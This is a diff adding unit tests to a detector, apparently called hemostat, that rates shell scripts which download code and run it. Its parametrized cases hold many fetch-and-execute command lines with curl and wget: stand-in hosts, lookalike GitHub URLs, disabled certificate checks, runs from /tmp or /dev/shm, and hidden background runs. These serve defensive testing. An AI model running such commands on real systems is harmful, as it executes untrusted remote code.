@@ -7,9 +7,10 @@ from hemostat.detect.checks.script_fetched_then_run import fetched_then_run
 from hemostat.model.evidence import Source
 from hemostat.model.finding import Claim, Observable
 from hemostat.model.host import Scope
+from hemostat.model.level import Level
 from hemostat.model.path import HostPath
 from hemostat.model.record_set import RecordSet
-from hemostat.model.records import ScriptLine
+from hemostat.model.records import Mechanism, ScriptLine, Startup
 
 
 def claims(*commands: str, paths: tuple[str, ...] = (), scope: Scope = Scope()) -> list[Claim]:
@@ -95,3 +96,93 @@ def test_the_scope_is_that_of_the_lines() -> None:
 )
 def test_any_lines_are_taken(commands: list[str]) -> None:
     assert len(claims(*commands)) <= 60 * 4
+
+
+RAW = "https://raw.githubusercontent.com/Example/Tool/main/core.sh"
+
+
+def level_of(
+    *commands: str, path: str = "/home/u/tool", account: str = "u", rooted: str = ""
+) -> Level:
+    """Of a person's script; `rooted` is a program root's crontab starts."""
+    place = HostPath(path)
+    records = RecordSet(
+        ScriptLine(
+            source=Source(path=place, line=number), path=place, account=account, command=command
+        )
+        for number, command in enumerate(commands, 1)
+    )
+    job = HostPath("/etc/cron.d/a")
+    records.add(
+        [
+            Startup(
+                mechanism=Mechanism.CRON,
+                source=Source(path=job),
+                place=job,
+                command=rooted,
+                programs=(HostPath(rooted),),
+                is_privileged=True,
+            )
+        ]
+    )
+    (claim,) = claims_of(fetched_then_run, records.of, fetched_then_run.examples[0].context)
+    return claim.level or fetched_then_run.info.level
+
+
+@pytest.mark.parametrize(
+    "commands",
+    [
+        (f"curl -s -L -o lib/core.sh {RAW} && chmod +x lib/core.sh", "source lib/core.sh"),
+        (f"wget -q {RAW}", "bash core.sh 2>&1"),
+        ('cd "$(dirname "$0")"', f'curl -o "$HOME/lib/core.sh" "{RAW}"', ". ~/lib/core.sh"),
+        ("cd ~/lib && pwd", f"curl -fsSLO {RAW}", "./core.sh && echo ok"),
+    ],
+)
+def test_a_persons_tool_that_fetches_its_own_published_parts_is_low(
+    commands: tuple[str, ...],
+) -> None:
+    assert level_of(*commands) is Level.LOW
+
+
+@pytest.mark.parametrize(
+    "commands",
+    [
+        ("curl -o lib/core.sh http://raw.githubusercontent.com/a/b/core.sh", ". lib/core.sh"),
+        ("curl -o lib/core.sh https://198.51.100.7/core.sh", ". lib/core.sh"),
+        ("curl -o lib/core.sh https://x.example/core.sh", ". lib/core.sh"),
+        ("curl -o lib/core.sh https://github.com.x.example/core.sh", ". lib/core.sh"),
+        ("curl -o lib/core.sh https://github.com@x.example/core.sh", ". lib/core.sh"),
+        ("curl -o lib/core.sh $URL", ". lib/core.sh"),
+        (f"curl -k -o lib/core.sh {RAW}", ". lib/core.sh"),
+        (f"wget --no-check-certificate {RAW}", "sh core.sh"),
+        (f"curl -o /tmp/core.sh {RAW}", ". /tmp/core.sh"),
+        (f"curl -o ../../v/core.sh {RAW}", ". ../../v/core.sh"),
+        (f"curl -o /home/v/core.sh {RAW}", ". /home/v/core.sh"),
+        (f"curl -o .x/core.sh {RAW}", ". .x/core.sh"),
+        (f'curl -o "$T" {RAW}', '. "$T"'),
+        ("cd /dev/shm", f"curl -O {RAW}", "sh core.sh"),
+        ('cd "$(mktemp -d)"', f"curl -O {RAW}", "sh core.sh"),
+        (f"curl -O {RAW}", "nohup ./core.sh"),
+        (f"curl -O {RAW}", "./core.sh >/dev/null 2>&1 &"),
+        (f"curl -O {RAW}", "curl -O http://198.51.100.7/core.sh", "./core.sh"),
+        ("curl -O http://198.51.100.7/core.sh", f"curl -O {RAW}", "./core.sh"),
+    ],
+)
+def test_any_other_address_place_or_way_to_run_stays_high(commands: tuple[str, ...]) -> None:
+    assert level_of(*commands) is Level.HIGH
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        {"path": "/opt/tool"},
+        {"path": "/home/u/.x/tool"},
+        {"path": "/root/tool", "account": "root"},
+        {"account": "root"},
+        {"account": "v"},
+        {"account": ""},
+        {"rooted": "/home/u/tool"},
+    ],
+)
+def test_a_script_of_roots_or_outside_the_own_home_stays_high(other: dict[str, str]) -> None:
+    assert level_of(f"curl -O {RAW}", "sh core.sh", **other) is Level.HIGH
